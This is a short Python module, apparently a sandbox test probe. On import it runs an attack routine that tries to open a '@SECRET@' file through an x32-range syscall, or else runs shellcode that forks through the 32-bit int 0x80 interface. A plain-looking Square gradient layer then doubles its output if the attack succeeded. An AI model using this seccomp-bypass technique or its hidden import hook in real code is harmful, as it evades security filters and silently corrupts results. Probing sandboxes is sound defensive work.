"""Makes system calls of another kind: the x32 range, and those of 32 bits by machine code."""

import ctypes
import mmap


def attack():
    libc = ctypes.CDLL(None)
    if libc.syscall(0x40000000 | 257, -100, b"@SECRET@", 0, 0) >= 0:
        return True
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    code = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    number = ctypes.CFUNCTYPE(ctypes.c_int)(code)()
    if number == 0:
        libc._exit(0)
    return number > 0


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
